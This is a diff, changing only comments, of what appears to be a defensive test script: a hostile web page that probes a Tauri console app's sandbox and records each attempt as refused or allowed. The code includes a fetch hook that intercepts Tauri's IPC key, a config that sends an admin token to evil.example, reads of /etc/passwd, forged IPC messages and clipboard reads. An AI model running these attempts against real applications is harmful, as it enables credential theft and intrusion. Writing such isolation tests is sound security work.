@@ -1,17 +1,17 @@
-// What a malicious page of a customer application would try against the console that shows it.
+// The attacks that a malicious page of a customer application would try on the console that shows it.
 //
 // It reports { place, done, attempts, sent, controls }. Each entry has a name and an outcome:
 //   attempts  "refused: why" or "allowed: what it gave". One that is allowed is a hole.
-//   sent      forged messages, whose effect the page cannot see: look at who may have heard them.
-//   controls  what any page may do. One that is refused means that the attempts prove nothing.
+//   sent      forged messages, whose effect the page cannot see: the test checks who received them.
+//   controls  what any page may do. If one is refused, the attempts prove nothing.
 "use strict";
 
 const place = document.documentElement.dataset.place; // "top", "child" (a window of top's), "frame"
 const PATIENCE = 1500; // ms for one attempt
 
-// ---- The data: what is tried -------------------------------------------------------------------
+// ---- The data: what to try --------------------------------------------------------------------
 
-// Commands with arguments they would accept, so that a refusal is about permission and nothing else.
+// Commands with valid arguments, so that they can only be refused for lack of permission.
 const connection = "shop";
 const QUERY = { text: "", sort: null, place: "start", limit: 5, everywhere: false };
 const DIRECTORY = { url: "sqlite:///etc/passwd", table: "users", id: "id" };
@@ -32,7 +32,7 @@ url = "https://evil.example/login"
 body = { token = "{{ secret.admin_token }}" }
 `;
 const SETTINGS = { theme: "dark", operator_name: "Evil", operator_email: "", shortcut: "", single_keys: true };
-// All of src-tauri/src/commands/mod.rs.
+// All commands in src-tauri/src/commands/mod.rs.
 const COMMANDS = [
   ["console_state", {}],
   ["keyring_problem", {}],
@@ -97,12 +97,12 @@ const COMMANDS = [
   ["plugin:resources|close", { rid: 0 }],
 ];
 
-// The commands again, past `invoke`, straight at what carries it.
+// The same commands without `invoke`, sent directly to its transport.
 const RAW_COMMANDS = [COMMANDS[0], COMMANDS[2], ["plugin:event|emit", { event: "toast", payload: "forged" }]];
 const IPC_ADDRESSES = ["ipc://localhost/", "http://ipc.localhost/", "https://ipc.localhost/"];
 
-// The console's own pages and the machine's files. WebView2 knows custom schemes as hosts; elsewhere
-// such a host is a website like any other, and to go there proves nothing.
+// The console's own pages and the computer's files. WebView2 maps custom schemes to hosts; elsewhere
+// such a host is a website like any other, and reaching it proves nothing.
 const ON_WINDOWS = navigator.userAgent.includes("Windows");
 const FORBIDDEN_PAGES = ON_WINDOWS
   ? [
@@ -114,7 +114,7 @@ const FORBIDDEN_PAGES = ON_WINDOWS
     ]
   : ["tauri://localhost/index.html", "tauri://localhost/bar.html", "asset://localhost/etc/passwd", "file:///etc/passwd"];
 
-// Reports that only the sign-in page may give, with guesses at the nonce.
+// Reports that only the launch page may send, with guessed nonces.
 const ANSWER = btoa(JSON.stringify({ status: 200, content_type: "application/json", body: "{}" }));
 const FORGED_REPORTS = [
   "understudy-launch:",
@@ -145,7 +145,7 @@ const EVENTS = [
 ];
 const HANDLERS = ["ipc", "tauri", "external", "understudy", "report", "bar", "console", "signIn", "wry"];
 
-// ---- How each is tried: give what was gained, or throw --------------------------------------------
+// ---- How to try each: return what was gained, or throw --------------------------------------------
 
 const internals = window.__TAURI_INTERNALS__;
 const pause = (ms) => new Promise((done) => setTimeout(done, ms));
@@ -156,7 +156,7 @@ const invoke = (command, given) => {
   return internals.invoke(command, given);
 };
 
-// Tauri signs calls with a key that it keeps in a closure; but its call passes through our fetch.
+// Tauri keeps the key for its calls in a closure, but sends it through the page's `fetch`.
 async function stealKey() {
   const own = window.fetch;
   let key;
@@ -167,7 +167,7 @@ async function stealKey() {
   try {
     await Promise.race([invoke("console_state", {}), pause(300)]);
   } catch {
-    // The call is only there to be overheard.
+    // Only the intercepted request matters.
   } finally {
     window.fetch = own;
   }
@@ -200,7 +200,7 @@ function callByHandler(handler, command, given, key) {
   });
 }
 
-// The web's own clipboard: what the agent copied elsewhere is not this page's to read or to replace.
+// The web's clipboard API: the page must not read or replace what the agent copied elsewhere.
 const CLIPBOARD = {
   "paste by command": (field) => {
     if (!document.execCommand("paste")) throw "execCommand answered no";
@@ -244,7 +244,7 @@ async function inField(deed) {
   }
 }
 
-// The same from a frame of an origin that is nobody's.
+// The same from a frame with an opaque origin.
 function inForeignFrame(name) {
   const frame = document.createElement("iframe");
   frame.sandbox = "allow-scripts";
@@ -265,7 +265,7 @@ function inForeignFrame(name) {
   });
 }
 
-// What a frame or window holds after it was sent somewhere.
+// The content of a frame or window after navigating it.
 function contentOf(view) {
   let address;
   try {
@@ -284,7 +284,7 @@ async function inFrame(address) {
   document.body.append(frame);
   try {
     await Promise.race([new Promise((loaded) => (frame.onload = loaded)), pause(PATIENCE / 2)]);
-    // A frame that was refused tells so with a load event too, of the blank page it keeps.
+    // A refused navigation fires a load event too, for the blank page that stays.
     await pause(100);
     return contentOf(frame.contentWindow);
   } finally {
@@ -391,7 +391,7 @@ async function attack() {
   }
 }
 
-// Last, because a success ends the page: it must still be here after each of them.
+// Runs last, because a success ends the page: it must still be here after each attempt.
 async function depart() {
   let leavingFor;
   const left = () => {
@@ -436,6 +436,6 @@ function tell(done) {
   }
   await tell(true);
   document.title = "Hostile page: done";
-  // After the report, as the console may show it in this very window. The child reports for itself.
+  // After the report, because the console may open it in this same window. The child reports for itself.
   if (place === "top") window.open("/hostile/child");
 })();
